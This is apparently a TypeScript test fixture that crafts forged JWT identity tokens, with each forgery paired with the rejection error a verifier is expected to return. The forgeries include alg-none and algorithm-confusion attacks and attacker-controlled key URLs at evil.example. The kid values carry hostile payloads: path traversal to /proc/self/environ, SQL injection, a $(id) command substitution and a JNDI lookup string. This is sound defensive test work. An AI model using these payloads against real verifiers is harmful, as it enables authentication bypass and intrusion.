// T1 to T4: another algorithm, a key brought along, a strange kid, another key. One wrong value at a time is in mutated-claims.ts.
import { createHmac, createPublicKey } from 'node:crypto';
import { encodePart, forgersKey, goodClaims, goodHeader, platformKey, signParts } from './craft.ts';
import type { Part } from './craft.ts';
import { family } from './forgery.ts';
import type { Forgery, Row } from './forgery.ts';

const { kid } = platformKey.jwk;
const claims = goodClaims.user;
const withHeader = (header: Part): string => signParts(header, claims);
const withMember = (member: Record<string, unknown>): string => withHeader({ ...goodHeader, ...member });
const byForger = (member: Record<string, unknown>): string => signParts({ ...goodHeader, ...member }, claims, forgersKey);

function hmacSigned(alg: string, hash: string, secret: string | Buffer): string {
  const message = `${encodePart({ alg, typ: 'JWT', kid })}.${encodePart(claims)}`;
  return `${message}.${createHmac(hash, secret).update(message).digest('base64url')}`;
}

/** What an attacker can know, and a verifier that takes its key for a secret would check with. */
const knownSecrets: readonly Row<string | Buffer>[] = [
  ['the public point', Buffer.from(platformKey.jwk.x, 'base64url')],
  ['the public point in base64url', platformKey.jwk.x],
  ['the public PEM', createPublicKey(platformKey.secret).export({ format: 'pem', type: 'spki' })],
  ['the public DER', createPublicKey(platformKey.secret).export({ format: 'der', type: 'spki' })],
  ['the public JWK', JSON.stringify(platformKey.jwk)],
  ['the kid', kid],
  ['nothing', ''],
];

function algorithmForgeries(): Forgery[] {
  const others = [
    'None',
    'NONE',
    'nOnE',
    'RS256',
    'PS256',
    'ES256',
    'ES256K',
    'ES512',
    'Ed25519',
    'Ed448',
    'ML-DSA-44',
    'dir',
    'HS256',
    'EdDSA,none',
  ];
  const unsigned = (header: Part): string => `${encodePart(header)}.${encodePart(claims)}.`;
  return [
    ...family('T1', 'ERR_IDENTITY_TOKEN_HEADER', withMember, [
      ['alg none over a good signature', { alg: 'none' }],
      ...others.map((alg): Row<Record<string, unknown>> => [`alg ${alg} over a good signature`, { alg }]),
      ['alg as a list with none', { alg: ['EdDSA', 'none'] }],
    ]),
    // An HMAC of 64 bytes has the length of our signatures, one of 32 does not.
    ...family(
      'T1',
      'ERR_IDENTITY_TOKEN_HEADER',
      (secret: string | Buffer) => hmacSigned('HS512', 'sha512', secret),
      prefixed('HS512 keyed with', knownSecrets),
    ),
    ...family(
      'T1',
      'ERR_IDENTITY_TOKEN_FORM',
      (secret: string | Buffer) => hmacSigned('HS256', 'sha256', secret),
      prefixed('HS256 keyed with', knownSecrets),
    ),
    ...family('T1', 'ERR_IDENTITY_TOKEN_FORM', (secret: string | Buffer) => hmacSigned('EdDSA', 'sha256', secret), [
      ['an HMAC that calls itself EdDSA', platformKey.jwk.x],
    ]),
    ...family('T1', 'ERR_IDENTITY_TOKEN_FORM', unsigned, [
      ['alg none without a signature', { alg: 'none', typ: 'JWT', kid }],
      ['alg None without a signature', { alg: 'None', typ: 'JWT', kid }],
      ['alg none and no kid', { alg: 'none' }],
      ['no signature at all', goodHeader],
    ]),
  ];
}

function prefixed<What>(prefix: string, rows: readonly Row<What>[]): Row<What>[] {
  return rows.map(([name, what]) => [`${prefix} ${name}`, what]);
}

function memberForgeries(): Forgery[] {
  return [
    ...family('T2', 'ERR_IDENTITY_TOKEN_HEADER', byForger, [
      ['a key in the header', { jwk: forgersKey.jwk }],
      ['a key in the header and its kid', { jwk: forgersKey.jwk, kid: forgersKey.jwk.kid }],
      ['an address of keys in the header', { jku: 'https://evil.example/jwks.json' }],
      ['an address of keys in the header and its kid', { jku: 'https://evil.example/jwks.json', kid: forgersKey.jwk.kid }],
      ['an address of a certificate in the header', { x5u: 'https://evil.example/cert.pem' }],
      ['a certificate in the header', { x5c: ['MIIB'] }],
      ['the fingerprint of a certificate in the header', { 'x5t#S256': forgersKey.jwk.kid }],
    ]),
    ...family('T2', 'ERR_IDENTITY_TOKEN_HEADER', withMember, [
      ['crit', { crit: ['exp'] }],
      ['crit of something unknown', { crit: ['urn:example'], 'urn:example': true }],
      ['an empty crit', { crit: [] }],
      ['crit null', { crit: null }],
      ['b64 false', { b64: false, crit: ['b64'] }],
      ['b64 false, not critical', { b64: false }],
      ['b64 true', { b64: true, crit: ['b64'] }],
      ['compression', { zip: 'DEF' }],
      ['encryption', { enc: 'A256GCM' }],
      ['a content type', { cty: 'JWT' }],
      ['a nonce', { nonce: 'n' }],
      ['an iteration count', { p2c: 2_147_483_647 }],
      ['a second alg in upper case', { ALG: 'none' }],
      ['a second kid in upper case', { Kid: forgersKey.jwk.kid }],
      ['claims in the header', { iss: claims.iss }],
      ['a member with no name', { '': 'x' }],
      ['an access token by its type', { typ: 'at+jwt' }],
      ['a logout token by its type', { typ: 'logout+jwt' }],
      ['a media type as type', { typ: 'application/JWT' }],
    ]),
    ...family('T2', 'ERR_IDENTITY_TOKEN_HEADER', withHeader, [
      ['a __proto__ with the right header', `{"__proto__":${JSON.stringify(goodHeader)}}`],
      ['a __proto__ beside the right header', `{"__proto__":{},${JSON.stringify(goodHeader).slice(1)}`],
    ]),
  ];
}

function kidForgeries(): Forgery[] {
  return [
    ...family('T3', 'ERR_IDENTITY_TOKEN_HEADER', withMember, [
      ['a path as kid', { kid: '../../../../dev/null' }],
      ['a path with a NUL as kid', { kid: '/proc/self/environ\0.pem' }],
      ['a file address as kid', { kid: 'file:///dev/null' }],
      ['SQL as kid', { kid: "' OR '1'='1' --" }],
      ['a UNION as kid', { kid: "x' UNION SELECT 'AAAA" }],
      ['a command as kid', { kid: '$(id)' }],
      ['a template as kid', { kid: '${jndi:ldap://evil.example/x}' }],
      ['an address as kid', { kid: 'https://evil.example/key' }],
      ['a pattern as kid', { kid: '.*' }],
      ['a place in the list as kid', { kid: '0' }],
      ['a kid with spare bits set', { kid: `${'A'.repeat(42)}B` }],
      ['a kid with padding', { kid: `${kid}=` }],
      ['a kid in ordinary base64', { kid: `+/${'A'.repeat(41)}` }],
      ['a kid in hex', { kid: Buffer.from(kid, 'base64url').toString('hex') }],
      ['__proto__ as kid', { kid: '__proto__' }],
      ['constructor as kid', { kid: 'constructor' }],
    ]),
    ...family('T3', 'ERR_IDENTITY_TOKEN_KEY', withMember, [['a kid of zeros', { kid: 'A'.repeat(43) }]]),
    ...family('T4', 'ERR_IDENTITY_TOKEN_SIGNATURE', byForger, [['another key under the published kid', {}]]),
    ...family('T4', 'ERR_IDENTITY_TOKEN_KEY', byForger, [['a key that is not published', { kid: forgersKey.jwk.kid }]]),
  ];
}

/** Forgeries by the token's header. */
export function headerForgeries(): Forgery[] {
  return [...algorithmForgeries(), ...memberForgeries(), ...kidForgeries()];
}
